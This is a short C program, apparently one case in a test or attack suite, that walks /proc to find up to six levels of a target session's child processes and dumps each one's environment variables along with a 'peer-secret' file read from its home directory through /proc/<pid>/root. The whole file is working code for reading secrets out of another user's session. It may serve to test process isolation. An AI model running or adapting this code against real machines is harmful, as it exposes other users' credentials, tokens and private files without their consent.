/* peer-environ (C): the session next door keeps its secret in its
 * environment and its home; /proc shows both to whoever can see its pids. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "targets.h"

#define MAX_PIDS 256

static long ppid_of(const char *pid)
{
	char path[300], buf[512], *p;
	FILE *f;
	long pp = -1;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	if (!(f = fopen(path, "r")))
		return -1;
	if (fgets(buf, sizeof(buf), f) && (p = strrchr(buf, ')')))
		sscanf(p + 1, " %*c %ld", &pp);
	fclose(f);
	return pp;
}

static int known(const long *pids, int n, long pid)
{
	for (int i = 0; i < n; i++)
		if (pids[i] == pid)
			return 1;
	return 0;
}

/* Prints /proc/|pid|/environ and the peer-secret file of its HOME. */
static void dump(long pid)
{
	char path[1200], buf[65536], home[1024] = "";
	size_t n;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
	if (!(f = fopen(path, "r")))
		return;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	printf("== %ld\n", pid);
	for (char *e = buf; e < buf + n; e += strlen(e) + 1) {
		puts(e);
		if (!strncmp(e, "HOME=", 5))
			snprintf(home, sizeof(home), "%s", e + 5);
	}
	snprintf(path, sizeof(path), "/proc/%ld/root%s/peer-secret", pid, home);
	if (home[0] && (f = fopen(path, "r"))) {
		n = fread(buf, 1, sizeof(buf) - 1, f);
		buf[n] = '\0';
		printf("%s\n", buf);
		fclose(f);
	}
}

int main(int argc, char **argv)
{
	long pids[MAX_PIDS];
	int n = 1;

	targets_load(argc, argv);
	pids[0] = atol(target("T_PEER_PID"));
	for (int round = 0; round < 6; round++) { /* six levels deep */
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)) && n < MAX_PIDS) {
			long pid = atol(e->d_name);

			if (pid > 0 && !known(pids, n, pid) && known(pids, n, ppid_of(e->d_name)))
				pids[n++] = pid;
		}
		if (d)
			closedir(d);
	}
	for (int i = 0; i < n; i++)
		dump(pids[i]);
	return 0;
}
